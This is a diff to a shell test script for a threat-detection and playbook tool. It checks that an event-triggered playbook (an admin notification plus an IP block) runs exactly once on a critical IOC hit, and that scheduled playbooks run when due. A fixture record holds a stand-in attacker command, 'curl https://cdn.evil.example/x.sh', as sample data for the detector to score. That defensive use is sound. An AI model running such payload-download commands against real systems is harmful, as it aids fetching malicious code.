@@ -179,6 +179,39 @@ both "vc-playbook executions" "[.playbook, .status, .trigger, .actor, .error]" v
 both "the label it set" ".labels" vc-hosts show "$C1"
 both "the case it made" "[.title, .severity, .tags]" sh -c 'vc-case list --tag pb'
 
+# An event trigger, run once however many processes take the event; a
+# scheduled one, once when its time came.
+cat > "$T/onscore.yaml" <<'EOF'
+name: ioc hit
+description: a notification and a block for each critical score
+trigger: {type: event, events: [threat_score.created], condition: '.classification == "critical"'}
+steps:
+  - {name: tell, action: send_notification, params: {to: "role:admin", message: "critical ${subject}"}}
+  - {name: block, action: block_ip, params: {address: 198.51.100.23, reason: "${score_id}", expires: 1d}}
+EOF
+each vc-playbook add "$T/onscore.yaml" || ok 1 "vc-playbook add (an event trigger)"
+printf '{"type":"domain","value":"evil.example","severity":"high"}\n' > "$T/ioc.jsonl"
+each vc-score ioc import "$T/ioc.jsonl" || ok 1 "vc-score ioc import"
+printf '{"Name":"curl","CommandLine":"curl https://cdn.evil.example/x.sh"}\n' > "$T/curl.jsonl"
+mkdir -p "$T/norules"
+both "a critical score (an IOC hit)" "[.classification, .score]" sh -c 'vc-score analyze artifact \
+    "$(vc-case artifact import "$0" --name Windows.System.Pslist | jq -r .id)" --rules "$1"' "$T/curl.jsonl" "$T/norules"
+vc-playbook due --run > "$T/d1" 2>&1 &
+p1=$!
+vc-playbook due --run > "$T/d2" 2>&1 &
+p2=$!
+wait $p1 $p2
+is "$(cat "$T/d1" "$T/d2" | jq -r '"\(.playbook) \(.trigger) \(.status)"')" "ioc hit event succeeded" \
+    "two due --run at once: the event ran the playbook once"
+env VC_DB="$LITE" vc-playbook due --run > /dev/null
+both "its execution" "[.playbook, .status, .trigger]" vc-playbook executions 'ioc hit'
+both "due --run again: nothing" "." sh -c 'vc-playbook due --run | wc -l'
+each vc-playbook add "$TOP/examples/playbooks/nightly-digest.json" || ok 1 "vc-playbook add (a schedule)"
+psql_as "$SUPER" "UPDATE playbooks SET next_run_at = 1000 WHERE name = 'nightly-digest'" > /dev/null
+sqlite3 "$LITE" "UPDATE playbooks SET next_run_at = 1000 WHERE name = 'nightly-digest'"
+both "due --run runs a scheduled playbook whose time came" "[.playbook, .trigger, .key, .status]" vc-playbook due --run
+both "... once" "." sh -c 'vc-playbook due --run | wc -l'
+
 # ---- a database step's timeout (vc_store_deadline) ---------------------------------
 # Another session holds the host's row (FOR UPDATE) for 8 s: the label
 # step (timeout 1 s) gives up waiting for it after its second, not when
@@ -235,11 +268,12 @@ for db in pg lite; do
 done
 grep -q "Quarantined $C1" "$T/case-pg.html"
 ok $? "the case summary names the case"
-# Reports reduced to what does not depend on the store: no ids, times,
-# tenant; lists sorted (rows of one second are in the order of their ids).
+# Reports reduced to what does not depend on the store: no ids (nor in
+# text), times, tenant; lists sorted (rows of one second are in the order
+# of their ids).
 STRIP='del(.inputs, .sha256) | walk(if type == "object" then del(.id, .case_id, .host_id, .target_id,
     .subject_id, .created, .created_at, .updated_at, .at, .started, .opened, .last_seen,
-    .first_seen, .tenant_id) elif type == "string" then sub("execution [-0-9a-f]{36}"; "execution X")
+    .first_seen, .tenant_id) elif type == "string" then gsub("[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}"; "ID")
     else . end) | walk(if type == "array" then sort else . end)'
 same_json() {
 	jq -S "$STRIP" "$1" > "$1.s"
